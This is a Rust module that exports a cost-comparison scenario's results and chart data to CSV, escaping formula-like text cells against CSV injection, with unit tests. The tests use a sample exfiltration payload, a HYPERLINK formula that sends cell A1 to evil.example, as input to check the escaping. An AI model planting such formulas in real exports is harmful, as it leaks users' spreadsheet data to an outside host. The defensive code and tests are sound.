//! CSV export of the results and the chart data. Numbers are written plainly (a point, no grouping) so
//! that any spreadsheet reads them; the currency is named in the headers.
//!
//! Text comes from people (a scenario's or a plan's name, perhaps from a shared link), so every text cell
//! is written as text a spreadsheet will not run: one that starts like a formula (`=`, `+`, `-`, `@`, a
//! tab or a carriage return) gets a leading apostrophe, as OWASP's guidance on CSV injection advises.

use super::report::Report;
use super::scenario::{OptionId, Scenario};
use super::series::regular;

/// One cell of text: neutralised if a spreadsheet would read it as a formula, quoted where needed.
pub fn text(cell: &str) -> String {
    let cell = if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_string()
    };
    if cell.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell
    }
}

/// One cell of a number (empty for none); never `-0`.
fn number(v: Option<f64>) -> String {
    v.map(|v| {
        let rounded = (v * 1e6).round() / 1e6 + 0.0;
        format!("{rounded}")
    })
    .unwrap_or_default()
}

/// One line of cells already written by `text` or `number`.
fn row(cells: &[String]) -> String {
    let mut line = cells.join(",");
    line.push_str("\r\n");
    line
}

/// A line of text cells.
fn text_row(cells: &[&str]) -> String {
    row(&cells.iter().map(|c| text(c)).collect::<Vec<_>>())
}

/// Results (one row per option and line) followed by the chart's data on an even grid (one row per x
/// value: every whole ticket up to 4,000 tickets, `series::regular`).
pub fn results_csv(s: &Scenario, r: &Report) -> String {
    let series = &regular(s);
    let cur = &s.currency;
    let mut out = String::new();
    out += &text_row(&["Scenario", &s.name]);
    out += &text_row(&["Currency", cur]);
    out += &text_row(&["Cheapest", r.cheapest.map_or("", |c| c.key())]);
    out += "\r\n";
    out += &text_row(&["option", "line", &format!("monthly amount ({cur})")]);
    for o in &r.options {
        let id = text(o.id.key());
        for l in &o.lines {
            out += &row(&[id.clone(), text(&l.label), number(Some(l.amount))]);
        }
        let total = if o.available {
            number(o.monthly_cost)
        } else {
            text("unavailable")
        };
        out += &row(&[id.clone(), text("Total"), total]);
        out += &row(&[id, text("Per ticket"), number(o.cost_per_ticket)]);
    }
    out += "\r\n";
    out += &text_row(&["a", "b", "tickets per month", "cheaper from there"]);
    for b in &r.break_even {
        out += &row(&[
            text(b.a.key()),
            text(b.b.key()),
            b.tickets.to_string(),
            text(b.cheaper_above.key()),
        ]);
    }
    out += "\r\n";
    let enabled: Vec<OptionId> = OptionId::ALL
        .into_iter()
        .filter(|id| series.enabled[*id])
        .collect();
    let mut header = vec![text(series.axis.key())];
    header.extend(
        enabled
            .iter()
            .map(|id| text(&format!("{} ({cur} per month)", id.key()))),
    );
    header.push(text("cheapest"));
    out += &row(&header);
    for (i, x) in series.xs.iter().enumerate() {
        let mut cells = vec![number(Some(*x))];
        cells.extend(enabled.iter().map(|id| number(series.totals[i][*id])));
        cells.push(text(series.cheapest(i).map_or("", |c| c.key())));
        out += &row(&cells);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::report::report;
    use crate::model::Plan;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_written_as_text() {
        assert_eq!(
            text("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        for start in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                text(start).trim_start_matches('"').starts_with('\''),
                "{start:?}"
            );
        }
        assert_eq!(text("Growth plan"), "Growth plan");
        assert_eq!(text("a, b"), "\"a, b\"");
        assert_eq!(number(Some(-0.0)), "0");
    }

    #[test]
    fn names_from_a_link_cannot_become_formulas_in_the_results_csv() {
        let mut s = Scenario {
            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
            ..Scenario::default()
        };
        s.platform.plans = vec![Plan::new("@evil", 549.0, 350.0, Some(1.9))];
        let csv = results_csv(&s, &report(&s));
        for line in csv.lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t']),
                    "live formula in {line:?}"
                );
            }
        }
        assert!(csv.starts_with("Scenario,\"'=HYPERLINK("), "{}", &csv[..60]);
    }
}
